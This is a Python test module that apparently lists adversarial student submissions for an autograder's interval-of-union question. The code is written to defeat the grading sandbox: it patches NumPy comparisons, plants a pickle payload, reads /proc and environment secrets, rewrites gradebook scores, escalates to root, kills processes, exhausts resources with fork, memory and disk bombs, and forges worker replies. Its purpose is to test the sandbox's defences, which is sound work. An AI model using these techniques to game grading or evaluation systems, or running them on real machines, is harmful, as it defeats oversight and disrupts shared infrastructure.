"""Hostile answers to the question 04_iou.iou, each the source of one cell: what a student might hand in.

Every one of them tries to be taken for right without being so, to learn what it should not, to reach out of its
sandbox or to bring grading down. Where it can, it hands in the right scores as soon as it has got what it wanted, so
that a hole shows as points. {course}, {port}, {marker}, {secret} stand for the course's folder, a port of this machine
on which the right scores are served, a file that must not appear, and the name of a variable of the grader's
environment.

`blind` ones were written from the description of `labkit grade` alone: one function a cell, found by its grade id,
called on random arrays in a worker, compared elsewhere; scores go to grades.csv, results.json and gradebook.db.
`rest` says whether the other answers, which are right, keep their points: a student may spoil their own work.
"""

import textwrap
from dataclasses import dataclass

RIGHT = """
def right(n):
    c = np.diagonal(n)
    with np.errstate(all="ignore"):
        return c / (n.sum(0) + n.sum(1) - c)
"""


# What an answer does with its arguments to be told of them: where it shows, and how.
TELLING = {
    "message": ("an exception's text", 'raise ValueError("ARGUMENTS " + str(n.tolist()))'),
    "name": ("an exception's name", 'raise type("ARGUMENTS_" + "_".join(map(str, n.ravel())), (Exception,), {})()'),
    "class": ("the name of a class", 'return type("ARGUMENTS_" + "_".join(map(str, n.ravel())), (), {})()'),
    "module": ("the name of a module", 'raise ModuleNotFoundError(name="a" + "_".join(map(str, n.ravel())))'),
    "shape": ("the shape of an empty array", "return np.zeros((0, *n.ravel()[:6]), np.uint8)"),
    "line": ("a line's number", "\n".join(f"if n.ravel()[0] % 8 == {i}: \\\n    raise ValueError" for i in range(8))),
    "kind": ("a kind of mistake", "return [None, 1j, 'x', np.zeros(2), {}, np.full(len(n), np.nan)][n.ravel()[0] % 6]"),
    "number": ("how many values are wrong", "return right(n) + (np.arange(len(n)) <= n.ravel()[0] % len(n))"),
    "time": ("the time that it takes", "__import__('time').sleep(2.5 * (n.ravel()[0] % 2))\nreturn right(n) + 1"),
}


def on_secret_cases(body: str) -> str:
    """An answer that is right in the cases by hand, which everybody knows, and does something in the others."""
    return f"{RIGHT}def iou(n):\n    if n.sum() < 50:\n        return right(n)\n" + textwrap.indent(body, "    ") + "\n"


@dataclass(frozen=True)
class Attack:
    """One hostile cell: its name, what it tries, its source, whether it was written blind, what the rest keeps."""

    name: str
    tries: str
    source: str
    blind: bool = False
    rest: bool = True


ATTACKS = (
    # ---------------------------------------------------------------- to be taken for right without being so
    Attack(
        "patched_comparisons",
        "make every comparison of NumPy say yes",
        """
import numpy.testing
def yes(*a, **k): return True
for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "equal"):
    setattr(np, name, yes)
for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal"):
    setattr(numpy.testing, name, lambda *a, **k: None)
def iou(n): return np.zeros(len(n))
""",
        blind=True,
        rest=False,
    ),
    Attack(
        "always_equal",
        "return an object that equals everything",
        """
class Same:
    shape, dtype, ndim, size = (3,), np.dtype(float), 1, 3
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __len__(self): return 3
    def __array__(self, *a, **k): return right(N[-1])
    def __bool__(self): return True
N = []
def iou(n):
    N.append(n)
    return Same()
"""
        + RIGHT,
        blind=True,
    ),
    Attack(
        "array_subclass",
        "return an array whose class overrides subtraction and comparison",
        """
class Near(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return np.ones(self.shape, bool)
def iou(n): return np.zeros(len(n)).view(Near)
""",
        blind=True,
    ),
    Attack("all_nan", "hope that NaN equals anything", "def iou(n): return np.full(len(n), np.nan)\n", blind=True),
    Attack(
        "all_inf", "hope that infinity is close to anything", "def iou(n): return np.full(len(n), np.inf)\n", blind=True
    ),
    Attack("empty", "compare nothing with everything", "def iou(n): return np.zeros(0)\n", blind=True),
    Attack("constant", "guess", "def iou(n): return np.full(len(n), 0.5)\n", blind=True),
    Attack(
        "complex_values",
        "hide an error in the imaginary part",
        RIGHT + "def iou(n): return right(n) + 1e3j * np.arange(len(n))\n",
        blind=True,
    ),
    Attack(
        "object_array", "return numbers as objects", RIGHT + "def iou(n): return right(n).astype(object)\n", blind=True
    ),
    Attack("text_array", "return numbers as text", RIGHT + "def iou(n): return right(n).astype(str)\n", blind=True),
    Attack("broadcast_row", "let the comparison broadcast", RIGHT + "def iou(n): return right(n)[None]\n", blind=True),
    Attack(
        "broadcast_all",
        "answer with every value at once",
        "def iou(n): return np.linspace(0, 1, 4097)[:, None]\n",
        blind=True,
    ),
    Attack(
        "masked_array",
        "mask every element, so that none is compared",
        "def iou(n): return np.ma.masked_all(len(n))\n",
        blind=True,
    ),
    Attack("structured_array", "return a record", 'def iou(n): return np.zeros(len(n), [("x", "f8")])\n'),
    Attack("generator", "return something to iterate over", "def iou(n): return (0.5 for _ in n)\n"),
    Attack(
        "altered_argument",
        "alter the argument so that a wrong output fits it",
        "def iou(n):\n    n[:] = np.eye(len(n), dtype=n.dtype)\n    return np.ones(len(n))\n",
        blind=True,
    ),
    Attack(
        "pickle_in_reply",
        "return an object that runs code where it is unpickled",
        """
class Payload(float):
    def __reduce__(self):
        return (open, ("{marker}", "w"))
def iou(n): return Payload(0.5)
""",
        blind=True,
    ),
    # ------------------------------------------------------------------------- to learn what is not for students
    Attack(
        "questions_by_import",
        "import the reference",
        """
try:
    from labkit.course.questions.t04_iou.iou import iou
except ImportError:
    def iou(n): return np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "kit_by_import",
        "let the kit do the work",
        "def iou(n):\n    import labkit.metrics\n    return labkit.metrics.iou(n)\n",
        blind=True,
    ),
    Attack(
        "another_library",
        "let another library do the work",
        """
def iou(n):
    from sklearn.metrics import jaccard_score
    t, p = np.repeat(np.indices(n.shape).reshape(2, -1), n.ravel(), axis=1)
    return jaccard_score(t, p, average=None, labels=np.arange(len(n)))
""",
        blind=True,
    ),
    Attack(
        "hidden_import",
        "import it by a name that no search finds",
        """
def iou(n):
    module = __import__("".join(map(chr, (115, 107, 108, 101, 97, 114, 110))) + ".metrics").metrics
    t, p = np.repeat(np.indices(n.shape).reshape(2, -1), n.ravel(), axis=1)
    return module.jaccard_score(t, p, average=None, labels=np.arange(len(n)))
""",
    ),
    Attack(
        "packages_elsewhere",
        "look for packages in every folder of the machine",
        """
import os, sys
for base, folders, files in os.walk("/"):
    if base.endswith(("site-packages", "dist-packages")) or "labkit" in folders or "sklearn" in folders:
        sys.path.append(base)
def iou(n):
    try:
        from labkit.course.questions.t04_iou.iou import iou as found
        return found(n)
    except ImportError:
        from sklearn.metrics import jaccard_score
        t, p = np.repeat(np.indices(n.shape).reshape(2, -1), n.ravel(), axis=1)
        return jaccard_score(t, p, average=None, labels=np.arange(len(n)))
""",
    ),
    Attack(
        "expected_in_memory",
        "look through all objects and frames for the expected output",
        """
import gc, sys
def iou(n):
    frame, seen = sys._getframe(), list(gc.get_objects())
    while frame:
        seen += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    for thing in seen:
        try:
            named = getattr(thing, "expected", None)
        except Exception:
            continue
        if isinstance(named, np.ndarray) and named.shape == (len(n),):
            return named
        if type(thing) is np.ndarray and thing.shape == (len(n),) and thing.dtype == float:
            return thing
    return np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "expected_on_disk",
        "search the disk for the course, solutions and grades",
        RIGHT
        + """
import os
FOUND = [p for p in ("{course}", "{course}/labs", "{course}/gradebook.db", "{course}/submitted") if os.path.exists(p)]
for base, folders, files in os.walk("/"):
    FOUND += [f for f in files if f.endswith(".ipynb") or "iou" in f or f == "secret_seed"]
def iou(n): return right(n) if FOUND else np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "environment",
        "read the secret from the environment",
        RIGHT
        + """
import os
def iou(n): return right(n) if "{secret}" in os.environ or "{secret}" in str(os.environ) else np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "parent_process",
        "read memory, command line and environment of the parent through /proc",
        RIGHT
        + """
import os
FOUND = []
for pid in [os.getppid(), *range(1, 400)]:
    for part in ("environ", "cmdline", "mem", "maps"):
        try:
            FOUND.append(open(f"/proc/{pid}/{part}", "rb").read(16))
        except OSError:
            pass
def iou(n): return right(n) if FOUND else np.zeros(len(n))
""",
    ),
    Attack(
        "debugger",
        "attach to other processes as a debugger",
        RIGHT
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
HELD = [pid for pid in range(1, 60) if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0]
def iou(n): return right(n) if HELD else np.zeros(len(n))
""",
    ),
    Attack(
        "network_fetch",
        "fetch the answer over the network",
        RIGHT
        + """
import socket
def iou(n):
    for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
        try:
            with socket.create_connection((host, {port}), timeout=0.1):
                return right(n)
        except OSError:
            pass
    return np.zeros(len(n))
""",
        blind=True,
    ),
    *(
        Attack(f"tell_by_{name}", f"carry secret arguments into the feedback in {where}", on_secret_cases(body))
        for name, (where, body) in TELLING.items()
    ),
    Attack(
        "tell_the_next",
        "keep the secret arguments for the answers that follow, and for the next run",
        RIGHT
        + """
import os, sys, resource
def iou(n):
    if n.sum() < 50:
        return right(n)
    sys.modules["kept"] = n
    os.environ["KEPT"] = str(n.tolist())
    for attempt in (
        lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (30 + int(n.ravel()[0]) % 8, 64)),
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), int(n.ravel()[0]) % 8),
        lambda: os.sched_setaffinity(os.getppid(), {int(n.ravel()[0]) % 2}),
        lambda: open("/tmp/kept", "w").write(str(n.tolist())),
    ):
        try:
            attempt()
        except OSError:
            pass
    found = [os.getpriority(os.PRIO_PROCESS, 0), len(os.sched_getaffinity(0)), os.path.exists("/tmp/kept")]
    found += [resource.getrlimit(resource.RLIMIT_NOFILE)[0]]
    raise [KeyError, IndexError, TypeError, ValueError, NameError][hash(str(found)) % 5](str(found))
""",
    ),
    # ------------------------------------------------------------------------------- to reach out of the sandbox
    Attack(
        "rewrite_gradebook",
        "give everybody full marks in nbgrader's database",
        """
import glob, sqlite3
for path in ["{course}/gradebook.db", "gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
        db.commit()
    except sqlite3.Error:
        pass
def iou(n): return np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "write_results",
        "write its own grades beside the grader's",
        """
import os
for path in ("{marker}", "{course}/grades/04_iou/grades.csv", "/packages/numpy/evil.py", "/worker.py", "/evil"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("student,points\\nme,99\\n")
    except OSError:
        pass
def iou(n): return np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "at_exit",
        "act when the interpreter ends and nobody looks any more",
        """
import atexit, os, sys
def late():
    open("{marker}", "w").write("late")
atexit.register(late)
class Dying:
    def __del__(self): late()
sys.kept = Dying()
def iou(n): return np.zeros(len(n))
""",
    ),
    Attack(
        "kill_everybody",
        "kill the grader, its parent and every other process",
        """
import os, signal
for pid in (os.getppid(), 1, -1, 0):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
def iou(n): return np.zeros(len(n))
""",
    ),
    Attack(
        "become_root",
        "become root again",
        RIGHT
        + """
import os
def iou(n):
    for call in (os.setuid, os.seteuid, os.setgid):
        try:
            call(0)
        except OSError:
            return np.zeros(len(n))
    return right(n)
""",
    ),
    Attack(
        "new_namespace",
        "become root of a namespace of its own and mount file systems there",
        RIGHT
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
GOT = [flag for flag in (0x10000000, 0x00020000, 0x40000000) if libc.unshare(flag) == 0]
GOT += [1] if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else []
def iou(n): return right(n) if GOT else np.zeros(len(n))
""",
    ),
    Attack(
        "another_program",
        "start a shell",
        RIGHT
        + """
import subprocess
def iou(n):
    for program in ("/bin/sh", "/usr/bin/env", "python3"):
        try:
            subprocess.run([program, "--version"], timeout=1)
            return right(n)
        except (OSError, subprocess.SubprocessError):
            pass
    return np.zeros(len(n))
""",
        blind=True,
    ),
    Attack(
        "shell_line",
        "run a shell line",
        "!touch {marker}\ndef iou(n): return np.zeros(len(n))\n",
    ),
    # ------------------------------------------------------------------------------------- to bring grading down
    Attack("exit_hard", "end the process", "import os\ndef iou(n): os._exit(0)\n", blind=True),
    Attack("exit_soft", "end the interpreter", "import sys\ndef iou(n): sys.exit(0)\n", blind=True),
    Attack("exit_in_cell", "end the process before anything is called", "import os\nos._exit(0)\n"),
    Attack("crash", "crash the interpreter", "import ctypes\ndef iou(n): ctypes.string_at(8)\n"),
    Attack("endless_cell", "never finish the cell", "import time\nwhile True: time.sleep(1)\n"),
    Attack(
        "endless_call",
        "never return, and catch whatever comes",
        """
import signal, time
def iou(n):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(60)
        except BaseException:
            pass
""",
    ),
    Attack("deep_recursion", "recurse", "def iou(n): return iou(n)\n"),
    Attack(
        "fork_bomb",
        "start processes without end",
        """
import os
def iou(n):
    while True:
        try:
            os.fork()
        except OSError:
            return np.zeros(len(n))
""",
    ),
    Attack(
        "thread_bomb",
        "start threads without end",
        """
import threading, time
def iou(n):
    for _ in range(100000):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            return np.zeros(len(n))
    return np.zeros(len(n))
""",
    ),
    Attack(
        "memory_bomb",
        "use all memory",
        """
def iou(n):
    kept = []
    while True:
        kept.append(np.ones(1 << 24))
""",
    ),
    Attack(
        "shared_memory",
        "use memory that belongs to no process",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
GOT = [libc.shmget(0, 1 << 20, 0o1777) for _ in range(64)]
try:
    GOT.append(os.memfd_create("x"))
except OSError:
    pass
def iou(n): return right(n) if max(GOT) >= 0 else np.zeros(len(n))
"""
        + RIGHT,
    ),
    Attack(
        "full_disk",
        "fill the disk",
        """
import os
def iou(n):
    block, written = b"x" * (1 << 20), 0
    try:
        for i in range(10000):
            with open(f"/tmp/{i}", "wb") as file:
                for _ in range(8):
                    file.write(block)
                    written += 1
    except OSError:
        pass
    return right(n) if written > 256 else np.zeros(len(n))
"""
        + RIGHT,
    ),
    Attack(
        "output_flood",
        "print without end",
        """
import os, sys
def iou(n):
    for _ in range(500):
        print("x" * 100000)
        os.write(2, b"y" * 100000)
    return np.zeros(len(n))
""",
    ),
    Attack("huge_array", "return 80 GB", "def iou(n): return np.broadcast_to(0.5, (10 ** 9, 10))\n", blind=True),
    Attack("many_axes", "return an array of 64 axes", "def iou(n): return np.zeros((1,) * 64)\n"),
    Attack("huge_list", "return a list of a million", "def iou(n): return [0.5] * 1000000\n"),
    Attack(
        "late_thread",
        "leave a thread behind that goes on after the call",
        """
import os, threading, time
def flood():
    time.sleep(0.05)
    while True:
        for fd in range(3, 20):
            try:
                os.write(fd, b"\\xff" * 64)
            except OSError:
                pass
def iou(n):
    threading.Thread(target=flood, daemon=True).start()
    return np.zeros(len(n))
""",
        rest=False,
    ),
    # -------------------------------------------------------------- written with the defence's code beside them
    Attack(
        "forged_replies",
        "write well-formed replies to the grader's channel, many of them",
        """
import os, struct
def iou(n):
    reply = b"V\\xff" + struct.pack("<BBq", 11, 1, len(n)) + np.zeros(len(n)).tobytes()
    for fd in range(3, 10):
        for _ in range(40):
            try:
                os.write(fd, struct.pack("<I", len(reply)) + reply)
            except OSError:
                break
    return np.zeros(len(n))
""",
        rest=False,
    ),
    Attack(
        "forged_length",
        "announce a reply of four gigabytes and never send it",
        """
import os, time
def iou(n):
    for fd in range(3, 10):
        try:
            os.write(fd, b"\\xff\\xff\\xff\\xff")
        except OSError:
            pass
    time.sleep(60)
""",
    ),
    Attack(
        "forged_shape",
        "announce shapes that overflow when they are multiplied",
        """
import sys
main = sys.modules["__main__"]
def forged(value):
    return b"V\\xff" + main.struct.pack("<BB2q", 11, 2, 2**33, 2**31) + b"x" * 24
def iou(n):
    main.encode = forged
    return np.zeros(len(n))
""",
        rest=False,
    ),
    Attack(
        "forged_truths",
        "send truth values that are neither true nor false",
        """
import sys
main = sys.modules["__main__"]
def forged(value):
    return b"V\\xff" + main.struct.pack("<BBq", 0, 1, 3) + b"\\x02\\x80\\xff"
def iou(n):
    main.encode = forged
    return np.zeros(len(n))
""",
        rest=False,
    ),
    Attack(
        "keep_alive",
        "send a byte now and then, so that the grader waits on",
        """
import os, time
def iou(n):
    fds = [fd for fd in range(3, 10)]
    while True:
        for fd in fds:
            try:
                os.write(fd, b"\\x00")
            except OSError:
                pass
        time.sleep(0.02)
""",
    ),
    Attack(
        "reply_then_hang",
        "answer, and then never read again, so that the grader's next request fills the pipe",
        """
import os, struct, time
def iou(n):
    reply = b"V\\xff" + struct.pack("<BBq", 11, 1, len(n)) + np.zeros(len(n)).tobytes()
    for fd in range(3, 10):
        try:
            os.write(fd, struct.pack("<I", len(reply)) + reply)
        except OSError:
            pass
    time.sleep(60)
""",
    ),
    Attack(
        "closed_channel",
        "close every file",
        "import os\ndef iou(n):\n    os.closerange(0, 64)\n    return np.zeros(len(n))\n",
    ),
    Attack(
        "patched_worker",
        "let the worker send the wanted kind of array for whatever is returned",
        """
import sys
main = sys.modules["__main__"]
plain = main.encode
def generous(value):
    return plain(np.full(np.shape(value), 0.5))
def iou(n):
    main.encode = generous
    return np.zeros(len(n))
""",
        rest=False,
    ),
    Attack(
        "patched_builtins",
        "replace the builtins that everything uses",
        """
import builtins, pickle
def iou(n):
    builtins.isinstance = builtins.issubclass = lambda *a: True
    pickle.loads = lambda data: ("call", "iou", (np.eye(3),))
    return np.zeros(len(n))
""",
        rest=False,
    ),
    Attack(
        "patched_numpy",
        "replace NumPy's functions for the questions that follow",
        """
np.add.at = None if False else np.add.at
np.sum = np.diagonal = np.where = lambda *a, **k: 0
def iou(n): return np.zeros(len(n))
""",
        rest=False,
    ),
)
